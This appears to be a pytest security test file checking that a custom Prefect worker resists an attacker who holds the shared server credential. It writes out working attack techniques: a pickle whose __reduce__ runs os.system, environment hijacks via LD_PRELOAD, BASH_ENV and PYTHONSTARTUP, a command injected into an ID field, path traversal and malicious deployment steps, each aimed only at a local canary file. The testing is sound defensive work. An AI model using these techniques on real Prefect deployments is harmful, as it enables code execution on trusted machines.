"""An attacker who holds the Prefect server's credential tries to run code on a trusted machine.

That credential is one for all, so everybody who works for a pool of lower trust has it. Each attack
would create the canary; the first test shows that it does so on a worker as Prefect ships it.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import shutil
import subprocess
import sys
import time
import urllib.error
from contextlib import suppress
from typing import Any

import pytest

pytestmark = pytest.mark.slow

PIPELINE = """
version: 1
name: copy
label: restricted
inputs:
  files: {files: "in/*.txt"}
stages:
  one: {uses: faults.bytes, each: files}
outputs:
  copies: {from: one, to: "out/{source.path}.txt"}
"""
RUN = "20260101-000000-aaaa"
IDS = {"run_id": RUN, "assignment_id": "a0001"}


class Bomb:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return (os.system, (self.command,))


class Attacker:
    """Files that create the canary when anything runs, imports, sources or unpickles them."""

    def __init__(self, yard: Any) -> None:
        self.yard = yard
        self.canary = yard.folder / "canary"
        self.den = yard.folder / "den"
        (self.den / "millrace" / "flows").mkdir(parents=True)
        code = f"open({str(self.canary)!r}, 'a').write('here')\n"
        names = ("evil", "sitecustomize", "usercustomize", "prefect", "millrace/__init__")
        for name in (*names, "millrace/flows/__init__", "millrace/flows/entry"):
            (self.den / f"{name}.py").write_text(code)
        flow = "\nfrom prefect import flow\n@flow\ndef evil(): pass\n"
        (self.den / "evil.py").write_text(code + flow)
        self.shell = f"{shutil.which('touch')} {self.canary}"
        (self.den / "profile.sh").write_text(self.shell)
        (self.den / "result").write_text(self._result())
        self.env = {
            "PYTHONPATH": str(self.den),
            "PYTHONSTARTUP": str(self.den / "evil.py"),
            "LD_PRELOAD": str(self.den / "evil.so"),
            "BASH_ENV": str(self.den / "profile.sh"),
            "PREFECT__FLOW_ENTRYPOINT": f"{self.den / 'evil.py'}:evil",
            "PATH": str(self.den),
            "MILLRACE_CLEARANCE": "restricted",
            "MILLRACE_HOME": str(self.den),
            "MILLRACE_CONDUCTOR": "1",
        }
        self.variables: dict[str, Any] = {
            "command": self.shell,
            "env": self.env,
            "working_dir": str(self.den),
            "image": "evil:latest",
            "stream_output": True,
        }

    def _result(self) -> str:
        """A result as Prefect keeps it in a file, whose pickle creates the canary."""
        payload = base64.b64encode(pickle.dumps(Bomb(self.shell))).decode()
        return json.dumps({"metadata": self._metadata(), "result": payload})

    def _metadata(self) -> dict[str, Any]:
        return {
            "storage_key": str(self.den / "result"),
            "serializer": {"type": "pickle", "picklelib": "pickle"},
            "prefect_version": "3.8.8",
        }

    def template(self, job: dict[str, Any], variables: dict[str, Any] | None = None) -> None:
        """Replaces the work pool's base job template."""
        body = {"base_job_template": {"job_configuration": job, "variables": variables or {}}}
        self.yard.ask(f"work_pools/{self.yard.pool}", body, "PATCH")

    def steps(self) -> list[dict[str, Any]]:
        run = "prefect.deployments.steps.run_shell_script"
        here = "prefect.deployments.steps.set_working_directory"
        return [{run: {"script": self.shell}}, {here: {"directory": str(self.den)}}]

    def complete_with_a_pickle(self, flow_run: str) -> None:
        """Says that a flow run, claimed and not yet begun, has a result to be loaded."""
        self.yard.wait(flow_run, "PENDING", "FAILED", "CRASHED")
        state = {"type": "COMPLETED", "data": self._metadata()}
        self.yard.ask(f"flow_runs/{flow_run}/set_state", {"state": state, "force": True})


@pytest.fixture
def attacker(yard: Any) -> Attacker:
    return Attacker(yard)


def test_the_attack_succeeds_on_a_worker_as_prefect_ships_it(yard: Any, attacker: Attacker) -> None:
    flow_run = yard.send(IDS, job_variables=attacker.variables)
    stock = ["worker", "start", "--pool", yard.pool, "--type", "process", "--run-once"]
    subprocess.run(
        [sys.executable, "-m", "prefect", *stock], capture_output=True, timeout=120, check=False
    )
    assert yard.state(flow_run)["type"] != "SCHEDULED"
    assert attacker.canary.exists()


def test_nobody_makes_our_worker_run_anything_but_our_entry_point(
    yard: Any, attacker: Attacker
) -> None:
    worker = yard.worker("--limit", "2")
    attacker.template(attacker.variables, {"properties": {"env": {"default": attacker.env}}})
    flow_runs = [
        yard.send(IDS, job_variables=attacker.variables),
        yard.send(
            IDS,
            deployment=yard.deployment(
                "millrace-assignment",
                entrypoint=f"{attacker.den / 'evil.py'}:evil",
                path=str(attacker.den),
                pull_steps=attacker.steps(),
                job_variables=attacker.variables,
            ),
        ),
        yard.send({}, flow="evil", job_variables=attacker.variables),
        yard.send({"run_id": RUN}, flow="millrace-pipeline", job_variables=attacker.variables),
        yard.send(IDS | {"run_id": "../../etc"}),
        yard.send(IDS | {"assignment_id": f"a0001\n; {attacker.shell} #"}),
        yard.send(IDS | {"assignment_id": "a" * 400_000}),
    ]
    for flow_run in flow_runs:
        assert yard.wait(flow_run)["type"] in ("FAILED", "CRASHED")
    refused = [yard.state(flow_run)["message"] for flow_run in flow_runs[2:]]
    assert all(message.startswith("refused: ") for message in refused)
    assert "etc" not in "".join(refused)

    bomb = yard.send(IDS)
    attacker.complete_with_a_pickle(bomb)
    for broken in ({"command": "{{ nothing }}"}, {"env": "no mapping"}, {}):
        with suppress(urllib.error.HTTPError):  # the server may refuse it itself
            attacker.template(broken)
    yard.until(lambda: not yard.entries())
    time.sleep(1)
    assert not attacker.canary.exists()
    assert worker.poll() is None

    (yard.folder / "in").mkdir()
    (yard.folder / "in" / "film.txt").write_text("fine\n" * 100)
    yard.deployments.clear()
    _, outcome = yard.conduct(PIPELINE)
    assert outcome.state == "succeeded"
    assert (yard.folder / "out" / "film.txt").read_text() == "fine\n" * 100
    assert not attacker.canary.exists()
